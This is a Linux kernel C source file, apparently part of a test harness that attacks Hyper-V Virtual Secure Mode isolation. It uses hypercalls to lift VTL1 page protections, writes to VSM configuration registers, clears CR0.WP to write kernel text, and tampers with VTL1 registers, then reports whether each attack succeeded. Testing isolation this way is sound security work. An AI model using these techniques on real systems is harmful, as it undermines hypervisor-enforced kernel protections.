// SPDX-License-Identifier: GPL-2.0-only
#include <linux/irqflags.h>
#include <linux/mm.h>
#include <asm/mshyperv.h>
#include <asm/processor-flags.h>
#include <asm/special_insns.h>

#include "attack.h"

#define HVCALL_MODIFY_PROTECTION 0x000c
#define MAP_ALL			 0xf /* HV_MAP_GPA_FLAGS: all access */

bool attack_vtl1_owned(void)
{
	u64 status;

	/* Bits 15:0: enabled VTLs. */
	attack_get_register(0, REGISTER_VSM_PARTITION_STATUS, &status);
	return status & BIT(1);
}

void *attack_vtl_call_stub(void)
{
	u64 offsets;

	attack_get_register(0, REGISTER_VSM_CODE_PAGE_OFFSETS, &offsets);
	return hv_hypercall_pg + (offsets & 0xfff);
}

void *attack_vtl_return_stub(void)
{
	u64 offsets;

	attack_get_register(0, REGISTER_VSM_CODE_PAGE_OFFSETS, &offsets);
	return hv_hypercall_pg + (offsets >> 12 & 0xfff);
}

/* Without VTL1 its memory is unprotected, and the attack succeeds. */
bool attack_output(struct attack_report *report)
{
	u64 result;

	memset(attack_input, 0, PAGE_SIZE);
	*(u64 *)attack_input = HV_PARTITION_ID_SELF;
	*(u32 *)(attack_input + 8) = HV_VP_INDEX_SELF;
	*(u32 *)(attack_input + 16) = REGISTER_VSM_VP_STATUS;
	result = attack_hypercall(HVCALL_GET_VP_REGISTERS | ATTACK_REP(1),
				  attack_region + (511ul << PAGE_SHIFT));
	attack_report(report, "the hypercall: %s", attack_status(result));
	return hv_result_success(result) && result != ATTACK_GP;
}

static u64 unprotect(phys_addr_t at, u8 input_vtl)
{
	memset(attack_input, 0, PAGE_SIZE);
	*(u64 *)attack_input = HV_PARTITION_ID_SELF;
	*(u32 *)(attack_input + 8) = MAP_ALL;
	attack_input[12] = input_vtl;
	*(u64 *)(attack_input + 16) = at >> PAGE_SHIFT;
	return attack_hypercall(HVCALL_MODIFY_PROTECTION | ATTACK_REP(1), 0);
}

/* Writes through the kernel's read-only mapping, with CR0.WP clear. */
static bool write_unprotected(u8 *at, const char **refused)
{
	const u8 old = READ_ONCE(*at);
	bool through = false;
	unsigned long flags, cr0;

	local_irq_save(flags);
	cr0 = read_cr0();
	*refused = attack_set_cr0(cr0 & ~X86_CR0_WP) ? NULL : "#GP at CR0.WP";
	if (!*refused && !attack_write(at, old ^ 1))
		*refused = "CR0.WP off, #GP at the write";
	if (!*refused) {
		through = READ_ONCE(*at) != old;
		attack_write(at, old);
	}
	attack_set_cr0(cr0);
	local_irq_restore(flags);
	return through;
}

/*
 * Requests access to a locked page and to a page of VTL1; writes 0 to VsmPartitionConfig of both
 * VTLs, to turn protections off; clears CR0.WP; then writes to kernel text. Without VTL1 only page
 * tables protect it, so the write succeeds.
 */
bool attack_protections(struct attack_report *report)
{
	const u64 page = unprotect(__pa_symbol(attack_text), ATTACK_VTL1);
	const u64 secret = unprotect(attack_region, 0);
	const u64 own = attack_set_register(0, REGISTER_VSM_PARTITION_CONFIG, 0);
	const u64 upper = attack_set_register(ATTACK_VTL1, REGISTER_VSM_PARTITION_CONFIG, 0);
	const char *refused;
	u8 value;
	const bool through = write_unprotected((u8 *)attack_text, &refused);
	const bool lifted =
		attack_vtl1_owned() &&
		(hv_result_success(page) || hv_result_success(secret) || hv_result_success(own) ||
		 hv_result_success(upper) || attack_read(__va(attack_region), &value));

	attack_report(report, "hypercalls: %s, %s, %s, %s; %s", attack_status(page),
		      attack_status(secret), attack_status(own), attack_status(upper),
		      refused ?: "CR0.WP off, written");
	return through || lifted;
}

static const u32 registers[] = {REGISTER_RIP, REGISTER_RSP, REGISTER_CR3, REGISTER_EFER};

/* Success without VTL1: the attacker enables VTL1, and its code in VTL1 reads the registers. */
bool attack_get_registers(struct attack_report *report)
{
	const struct attack_captured *captured = attack_take_over();
	u64 value, result = 0;
	unsigned int got = 0;

	for (size_t i = 0; i < ARRAY_SIZE(registers); i++) {
		result = attack_get_register(ATTACK_VTL1, registers[i], &value);
		got += hv_result_success(result);
	}
	attack_report(report, "hypercalls: %s; %s", attack_status(result),
		      captured ? "own code in VTL1 reads CR3, RSP and EFER"
			       : "no code of its own in VTL1");
	return got || (captured && captured->cr3 && captured->efer);
}

/* Success without VTL1: the attacker enables VTL1 with registers of its choice. */
bool attack_set_registers(struct attack_report *report)
{
	const struct attack_captured *captured = attack_take_over();
	u64 result = 0;
	unsigned int set = 0;

	for (size_t i = 0; i < ARRAY_SIZE(registers); i++) {
		result = attack_set_register(ATTACK_VTL1, registers[i], 0);
		set += hv_result_success(result);
	}
	attack_report(report, "hypercalls: %s; %s", attack_status(result),
		      captured ? "VTL1 runs with the RSP that it was given"
			       : "no context of its own in VTL1");
	return set || (captured && captured->rsp == attack_own_rsp());
}
